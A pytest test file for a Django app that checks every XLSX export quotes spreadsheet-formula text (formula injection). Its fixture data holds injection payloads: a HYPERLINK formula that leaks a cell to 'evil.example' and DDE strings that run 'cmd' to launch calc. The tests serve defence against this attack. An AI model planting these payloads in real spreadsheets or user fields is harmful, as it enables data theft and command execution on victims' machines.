"""Every XLSX the app writes keeps user data inert: no formula cells, and text that a
spreadsheet would run (= + - @ tab CR first) is prefixed with a quote (OWASP)."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from qcdc import xlsx
from reports import closing, services
from reports.exports import explain_xlsx_bytes
from reports.models import ReportRun
from units.models import OrgNode, Unit
from units.periods import Period

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "chair_name": "=cmd|' /C calc'!A0",
    "address": "+1+cmd|' /C calc'!A0",
    "chair_email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "chair_phone": "-2+3",
    "union_name": "\t=1+1",
    "tax_code": "\r=1+1",
}
NODE_NAME = "=1+2"


@pytest.fixture(autouse=True)
def _run_jobs_at_once(monkeypatch):
    from django.db import transaction

    monkeypatch.setattr(transaction, "on_commit", lambda func, using=None, robust=False: func())


@pytest.fixture
def hostile(tree, world):
    """Unit A and district X carry formulas in every text a user can type."""
    Unit.objects.filter(pk=world.unit_a.pk).update(**HOSTILE)
    Unit.objects.filter(pk=tree["returned_only"].pk).update(**HOSTILE)
    OrgNode.objects.filter(pk=world.district_x.pk).update(name=NODE_NAME)
    world.district_x.refresh_from_db()
    return world


def cells_of(data: bytes) -> list:
    book = load_workbook(BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert(data: bytes, *expected: str) -> None:
    cells = cells_of(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(xlsx.FORMULA_TRIGGERS)] == []
    for value in expected:
        assert "'" + value in texts, value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Công ty = Alpha", "Công ty = Alpha"),
        ("—", "—"),
        (-5, -5),
        (None, None),
    ],
)
def test_it_neutralises_text_that_a_spreadsheet_would_run(value, written):
    assert xlsx.neutralise(value) == written


def test_it_restores_an_exported_text_when_it_is_imported_again():
    assert xlsx.restore(xlsx.neutralise("=1+1")) == "=1+1"
    assert xlsx.restore("'quoted") == "'quoted"


def test_the_units_export_writes_no_formula(client_as, hostile, tmp_path):
    response = client_as(hostile.staff_x).get(reverse("units:unit_export"))
    assert response.status_code == 200
    assert_inert(response.content, HOSTILE["name"], HOSTILE["chair_name"], HOSTILE["address"], HOSTILE["chair_email"])


def test_the_report_xlsx_and_its_missing_list_write_no_formula(hostile):
    run, _created = services.report_request(node=hostile.province, year=2025, by_category=True, by=hostile.leader_p)
    run.refresh_from_db()
    assert run.status == ReportRun.Status.DONE, run.error
    data = run.xlsx.open("rb").read()
    # The returned-only unit is in the missing list with its chair; X is a row of the summary.
    assert_inert(data, *(HOSTILE[k] for k in ("name", "chair_name", "chair_email", "chair_phone")), NODE_NAME)


def test_the_closed_period_xlsx_writes_no_formula(hostile):
    close, _new = closing.close_request(node=hostile.district_x, year=2025, period=Period.YEAR, by=hostile.staff_x)
    close.refresh_from_db()
    assert close.xlsx, close.error
    assert_inert(close.xlsx.open("rb").read(), HOSTILE["name"], HOSTILE["chair_name"], NODE_NAME.upper())


def test_the_explanation_xlsx_writes_no_formula(client_as, hostile):
    params = {"node": hostile.district_x.pk, "year": 2025, "period": "year", "indicator": "worker_conference"}
    url = f"{reverse('reports:explain')}?{urlencode({**params, 'figure': 'expected', 'format': 'xlsx'})}"
    response = client_as(hostile.staff_x).get(url)
    assert response.status_code == 200
    assert_inert(b"".join(response.streaming_content), HOSTILE["name"], NODE_NAME)


def test_the_explanation_title_is_neutralised_too():
    data = explain_xlsx_bytes([], title="=1+1 – 2025")
    assert_inert(data, "=1+1 – 2025")


def test_no_module_but_the_helper_writes_a_workbook():
    """A future export cannot bypass the helper: only qcdc/xlsx.py makes workbooks and cells."""
    writers = re.compile(r"\bWorkbook\(|\bWriteOnlyCell\(|\bws\.append\(|\.cell\(row=")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("qcdc", "units", "conferences", "reports")
        for path in (ROOT / folder).rglob("*.py")
        if path != ROOT / "qcdc" / "xlsx.py" and writers.search(path.read_text())
    ]
    assert offenders == []
